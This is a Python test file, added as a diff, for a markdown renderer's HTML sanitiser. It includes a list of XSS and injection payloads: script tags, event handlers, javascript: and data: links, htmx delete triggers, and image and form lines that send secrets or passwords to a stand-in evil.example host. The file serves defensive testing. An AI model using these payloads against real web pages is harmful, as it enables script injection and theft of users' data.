@@ -1,0 +1,247 @@
+"""Text becomes HTML without becoming anything else."""
+
+import re
+import time
+from html.parser import HTMLParser
+
+import nh3
+import pytest
+from hypothesis import example, given, settings
+from hypothesis import strategies as st
+
+from agents.prose import ATTRIBUTES, TAGS, GrowingProse, render_markdown
+
+ATTACKS = [
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "<img src=x onerror=alert(1)>",
+    "<img src='http://evil.example/?q=secret'>",
+    "<svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
+    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
+    "<iframe src='javascript:alert(1)'></iframe>",
+    "<object data='data:text/html,<script>alert(1)</script>'>",
+    "<embed src='//evil.example'>",
+    "<form action='//evil.example'><input name=password></form>",
+    "<style>@import '//evil.example';</style>",
+    "<p style='background:url(//evil.example)'>x</p>",
+    "<link rel=stylesheet href=//evil.example>",
+    "<meta http-equiv=refresh content='0;url=//evil.example'>",
+    "<base href='//evil.example/'>",
+    "<div hx-get='/chat/1/delete/' hx-trigger='load'>x</div>",
+    "<div data-hx-post='/chat/1/delete/' data-hx-trigger='load'>x</div>",
+    "<div hx-on:click='alert(1)'>x</div>",
+    "<div ws-connect='/ws/chat/1/'>x</div>",
+    "<div id='composer' class='x'>x</div>",
+    "<template><script>alert(1)</script></template>",
+    "<!-- <script>alert(1)</script> -->",
+    "<!--><img src=x onerror=alert(1)>-->",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    "<?php alert(1) ?>",
+    "<a href='javascript:alert(1)'>x</a>",
+    "[x](javascript:alert(1))",
+    "[x](JaVaScRiPt:alert(1))",
+    "[x](java\tscript:alert(1))",
+    "[x](&#106;avascript:alert(1))",
+    "[x](<javascript:alert(1)>)",
+    "[x](data:text/html;base64,PHNjcmlwdD4=)",
+    "[x](vbscript:msgbox(1))",
+    "[x](file:///etc/passwd)",
+    "[x](//evil.example 'a\" onmouseover=\"alert(1)')",
+    '[x](http://a.example/"onmouseover="alert(1))',
+    "<javascript:alert(1)>",
+    "[x][r]\n\n[r]: javascript:alert(1)",
+    "![x](http://evil.example/?q=secret)",
+    "![x](javascript:alert(1))",
+    '![a" onerror="alert(1)](http://evil.example)',
+    "[![x](http://evil.example/pixel)](http://evil.example)",
+    "![x][r]\n\n[r]: http://evil.example/pixel",
+    "```html\n<script>alert(1)</script>\n```",
+    '```"onmouseover=alert(1)\nx\n```',
+    "``` <img src=x onerror=alert(1)>\nx\n```",
+    "`<script>alert(1)</script>`",
+    "# <script>alert(1)</script>",
+    "| a |\n|:-:|\n| <script>alert(1)</script> |",
+    "- <img src=x onerror=alert(1)>\n  > <script>alert(1)</script>",
+    "**<b onclick=alert(1)>x</b>**",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "\\<script>alert(1)\\</script>",
+    "<scr\0ipt>alert(1)</scr\0ipt>",
+    "\u202e<script>alert(1)</script>",
+    "<a\u2028href='javascript:alert(1)'>x</a>",
+    "</div></section><script>alert(1)</script>",
+    "</textarea><script>alert(1)</script>",
+]
+
+
+class Seen(HTMLParser):
+    """Every element and attribute a browser would make of this."""
+
+    def __init__(self, html):
+        super().__init__()
+        self.tags, self.attributes, self.links = set(), set(), []
+        self.feed(html)
+        self.close()
+
+    def handle_starttag(self, tag, attrs):
+        self.tags.add(tag)
+        for name, value in attrs:
+            self.attributes.add((tag, name))
+            if name == "href":
+                self.links.append(value)
+
+    def handle_comment(self, data):
+        self.tags.add("comment")
+
+    handle_decl = handle_pi = unknown_decl = handle_comment
+
+
+ALLOWED = {(tag, name) for tag, names in ATTRIBUTES.items() for name in names} | {("a", "rel")}
+
+
+def assert_harmless(html):
+    seen = Seen(html)
+    assert seen.tags <= TAGS
+    assert seen.attributes <= ALLOWED
+    for link in seen.links:
+        assert not re.match(r"\s*(javascript|data|vbscript|file):", link, re.IGNORECASE)
+
+
+@pytest.mark.parametrize("text", ATTACKS)
+def test_no_text_becomes_more_than_prose(text):
+    assert_harmless(render_markdown(text))
+
+    growing = GrowingProse()
+    html = "".join(growing.feed(character) for character in text) + growing.tail_html
+    assert_harmless(html)
+
+
+@given(st.lists(st.sampled_from([*ATTACKS, "\n", "\n\n", "`", "*", "> ", "- ", "|"])))
+@settings(max_examples=60, deadline=None)
+def test_no_mixture_of_attacks_becomes_more_than_prose(parts):
+    assert_harmless(render_markdown("".join(parts)))
+
+
+@given(st.text(max_size=200) | st.sampled_from(ATTACKS))
+@settings(max_examples=150, deadline=None)
+def test_cleaning_what_is_clean_changes_nothing(text):
+    html = render_markdown(text)
+
+    assert nh3.clean(html, tags=TAGS, attributes=ATTRIBUTES, link_rel=REL) == html
+
+
+REL = "noopener noreferrer nofollow"
+
+
+def test_an_image_is_a_link_that_waits_to_be_clicked():
+    html = render_markdown("![A **chart**](http://shop.example/chart.png)")
+
+    assert "<img" not in html
+    assert f'<a href="http://shop.example/chart.png" rel="{REL}">' in html
+
+
+def test_code_is_highlighted_by_classes_alone():
+    html = render_markdown("```python\ndef answer(): return 42\n```")
+
+    assert '<pre class="code"><code class="language-python">' in html
+    assert '<span class="k">def</span>' in html
+    assert "style" not in html
+
+
+@pytest.mark.parametrize("language", ["", "nothing-of-the-kind", "text", "c++", "<b>"])
+def test_code_of_any_language_is_shown(language):
+    html = render_markdown(f"```{language}\na < b\n```")
+
+    assert re.sub("<[^>]+>", "", html) == "a &lt; b\n\n"
+
+
+def test_a_table_keeps_its_alignment():
+    html = render_markdown("| a | b |\n|:--|--:|\n| 1 | 2 |")
+
+    assert '<th class="left">a</th>' in html
+    assert '<td class="right">2</td>' in html
+
+
+def test_headings_stand_below_those_of_the_page():
+    assert render_markdown("# One\n\n##### Five") == "<h3>One</h3>\n<h6>Five</h6>\n"
+
+
+def test_nul_is_left_out():
+    assert render_markdown("a\0b") == "<p>ab</p>\n"
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "word " * 200_000,
+        "# heading\n\n" * 10_000,
+        "*a " * 30_000,
+        "[" * 20_000,
+        "[a](" * 10_000,
+        "`" * 60_000,
+        "> " * 30_000,
+        "- " * 30_000,
+        "a\n" * 30_000,
+        "|a" * 20_000 + "\n" + "|-" * 20_000,
+        "```python\n" + "x = 1\n" * 100_000,
+        "&#0;" * 60_000,
+        "![" * 10_000,
+        "<" * 200_000,
+    ],
+    ids=lambda text: text[:6],
+)
+def test_a_long_text_takes_no_long_time(text):
+    began = time.monotonic()
+    render_markdown(text)
+
+    assert time.monotonic() - began < 10
+
+
+# Text that is still being written
+
+DOCUMENTS = [
+    "One paragraph\nof two lines.\n\nAnother one, **bold** and `code`.\n",
+    "# Title\n\nText\n\n## Below\n\n- one\n- two\n\n  still two\n- three\n\nAfter the list.\n",
+    "Before\n\n```python\ndef f():\n\n    return 1\n\n```\n\nAfter\n\n    some\n\n    code\n",
+    "| a | b |\n|---|:-:|\n| 1 | 2 |\n| 3 | 4 |\n\nAfter the table.\n",
+    "> a quote\nthat goes on\n\n> another\n\n---\n\nSetext\n======\n\nEnd\n***\nreally\n",
+    "1. one\n\n   ```\n   code\n\n   more\n   ```\n2. two\n\n3. three\n\nDone\n",
+    "足跡は**道**です。\n\n- 一\n- 二\n\n```\nコード\n```\n\n終わり\n",
+    "Windows\r\nlines\r\n\r\n- a\r\n- b\r\n\r\n```\r\ncode\r\n\r\nmore\r\n```\r\n\r\nEnd\r\n",
+    "Odd\u2028ends\x0b of\x0c lines\x85 here\u2029\n\n```\na\u2028b\n\nc\n```\n\nEnd\x1c\n",
+    "Old\rMac\r\r```\rcode\r\rmore\r```\r\rEnd\n\n* * *\n\nEnd of\0 it all\n",
+    "Old\r```\ncode\n\nmore\n```\n\nEnd\n",
+    "~~~\nnever closed\n\nat all\n",
+    "Para\n- list at once\n* another\n+ third\n\n\n\n1) one\n2) two\n\n<b>no html</b>\n\nx\n",
+]
+
+
+def grown(document, cuts):
+    edges = [0, *sorted(cut % (len(document) + 1) for cut in cuts), len(document)]
+    prose = GrowingProse()
+    pairs = zip(edges, edges[1:], strict=False)
+    html = "".join(prose.feed(document[start:end]) for start, end in pairs)
+    return html + prose.tail_html
+
+
+@given(st.sampled_from(DOCUMENTS), st.lists(st.integers(0, 500), max_size=12))
+@example(DOCUMENTS[1], list(range(500)))
+@example(DOCUMENTS[2], list(range(500)))
+@settings(max_examples=150, deadline=None)
+def test_growing_prose_is_the_whole_in_the_end(document, cuts):
+    assert grown(document, cuts) == render_markdown(document)
+
+
+@pytest.mark.parametrize("document", DOCUMENTS)
+def test_prose_grown_by_single_characters_is_the_whole_in_the_end(document):
+    assert grown(document, range(len(document))) == render_markdown(document)
+
+
+def test_what_has_ended_is_not_rendered_again():
+    prose = GrowingProse()
+
+    assert prose.feed("First.\n\nSec") == ""
+    assert prose.feed("ond.\n") == "<p>First.</p>\n"
+    assert prose.tail == "Second.\n"
